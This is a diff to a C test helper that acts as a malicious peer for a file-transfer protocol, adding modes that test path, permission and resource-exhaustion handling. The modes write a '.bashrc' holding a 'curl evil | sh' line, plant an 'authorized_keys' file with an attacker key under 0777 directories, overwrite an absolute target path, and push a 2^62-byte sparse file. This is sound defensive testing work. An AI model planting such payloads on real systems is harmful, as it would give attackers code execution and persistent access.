@@ -10,7 +10,15 @@
  *       dotdot  an ENTRY named ".."
  *       badlen  a record length of 0xffffffff
  *       digest  a file whose digest does not match
- *       die     half a file, then the connection closes */
+ *       die     half a file, then the connection closes
+ *       rename  the top is a file named ".bashrc", whatever was asked for
+ *       abstop  the top is named TARGET (an absolute path)
+ *       chmod   the top is a directory of mode 0777 holding a directory
+ *               "sub" (0777) and a file "authorized_keys": merged into
+ *               directories the client already has, their modes must stay
+ *       hole    the top is a hole-only file of 2^62 bytes
+ *       put-hole  as a client of the server at SOCKET: uploads a hole-only
+ *               2^62-byte file to TARGET, then waits for the answer */
 #include <errno.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -70,9 +78,10 @@ static int flush(int fd)
 	return 0;
 }
 
-static void entry(uint8_t kind, const char *name, uint64_t size, const char *target)
+static void entry_m(uint8_t kind, const char *name, uint64_t size, const char *target,
+		    uint32_t mode)
 {
-	struct slc_entry e = { .kind = kind, .mode = kind == SLC_K_DIR ? 0755 : 0644, .size = size };
+	struct slc_entry e = { .kind = kind, .mode = mode, .size = size };
 	uint8_t p[8192];
 	long n;
 
@@ -81,6 +90,24 @@ static void entry(uint8_t kind, const char *name, uint64_t size, const char *tar
 		snprintf(e.target, sizeof(e.target), "%s", target);
 	n = slc_entry_encode(p, sizeof(p), &e);
 	add(SLC_ENTRY, p, (size_t)n);
+}
+
+static void entry(uint8_t kind, const char *name, uint64_t size, const char *target)
+{
+	entry_m(kind, name, size, target, kind == SLC_K_DIR ? 0755 : 0644);
+}
+
+/* A file of `size` bytes that is all hole: no DATA, only its digest. */
+static void hole_file(const char *name, uint64_t size)
+{
+	uint8_t p[2 + SLC_DIGEST_MAX];
+	struct slc_digest d;
+
+	entry(SLC_K_FILE, name, size, NULL);
+	slc_digest_init(&d, SLC_DG_XXH128);
+	p[0] = SLC_DG_XXH128;
+	p[1] = (uint8_t)slc_digest_end(&d, size, p + 2);
+	add(SLC_FILE_END, p, 2u + p[1]);
 }
 
 static void file(const char *name, const char *data, int bad_digest)
@@ -94,8 +121,8 @@ static void file(const char *name, const char *data, int bad_digest)
 	memcpy(p + 8, data, n);
 	add(SLC_DATA, p, 8 + n);
 	slc_digest_init(&d, SLC_DG_XXH128);
-	slc_digest_update(&d, data, n);
-	slc_digest_final(&d, dg);
+	slc_digest_data(&d, 0, data, n);
+	slc_digest_end(&d, n, dg);
 	if (bad_digest)
 		dg[0] ^= 1;
 	p[0] = SLC_DG_XXH128;
@@ -121,6 +148,37 @@ static int greet(int fd)
 	return 0;
 }
 
+/* A hostile client: the server must not spend unbounded work on it. */
+static int put_hole(const char *sock, const char *path)
+{
+	struct sockaddr_un sa = { .sun_family = AF_UNIX };
+	struct slc_chello ch = { .version = SLC_VERSION, .flags = SLC_HF_INSECURE };
+	uint8_t hello[SLC_CHELLO_LEN], sh[SLC_SHELLO_MAX], req[8 + SLC_PATH_MAX];
+	long n;
+	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
+
+	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", sock);
+	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0)
+		return 1;
+	slc_chello_encode(&ch, hello);
+	if (wall(fd, hello, sizeof(hello)) < 0 || rall(fd, sh, SLC_SHELLO_HDR) < 0)
+		return 1;
+	n = slc_shello_len(sh);
+	if (n < 0 || rall(fd, sh + SLC_SHELLO_HDR, (size_t)n - SLC_SHELLO_HDR) < 0)
+		return 1;
+	sid = 1;
+	n = slc_xfer_req_encode(req, sizeof(req), 0, path);
+	add(SLC_PUT, req, (size_t)n);
+	hole_file("hole", 1ull << 62);
+	add(SLC_XFER_END, NULL, 0);
+	if (flush(fd) < 0)
+		return 1;
+	while (read(fd, rec, sizeof(rec)) > 0)
+		;
+	close(fd);
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	struct sockaddr_un sa = { .sun_family = AF_UNIX };
@@ -131,6 +189,8 @@ int main(int argc, char **argv)
 		fprintf(stderr, "usage: slc_evil MODE SOCKET [TARGET]\n");
 		return 2;
 	}
+	if (!strcmp(mode, "put-hole"))
+		return argc > 3 ? put_hole(argv[2], argv[3]) : 2;
 	strcpy(sa.sun_path, argv[2]);
 	unlink(argv[2]);
 	l = socket(AF_UNIX, SOCK_STREAM, 0);
@@ -165,6 +225,26 @@ int main(int argc, char **argv)
 		file("good", "fine\n", 0);
 		file("bad", "corrupted\n", 1);
 		add(SLC_DIR_END, NULL, 0);
+		add(SLC_XFER_END, NULL, 0);
+		flush(fd);
+	} else if (!strcmp(mode, "rename")) {
+		file(".bashrc", "curl evil | sh\n", 0);
+		add(SLC_XFER_END, NULL, 0);
+		flush(fd);
+	} else if (!strcmp(mode, "abstop") && argc > 3) {
+		file(argv[3], "owned\n", 0);
+		add(SLC_XFER_END, NULL, 0);
+		flush(fd);
+	} else if (!strcmp(mode, "chmod")) {
+		entry_m(SLC_K_DIR, "ssh", 0, NULL, 0777);
+		entry_m(SLC_K_DIR, "sub", 0, NULL, 0777);
+		add(SLC_DIR_END, NULL, 0);
+		file("authorized_keys", "ssh-ed25519 AAAA evil\n", 0);
+		add(SLC_DIR_END, NULL, 0);
+		add(SLC_XFER_END, NULL, 0);
+		flush(fd);
+	} else if (!strcmp(mode, "hole")) {
+		hole_file("top", 1ull << 62);
 		add(SLC_XFER_END, NULL, 0);
 		flush(fd);
 	} else if (!strcmp(mode, "die")) {
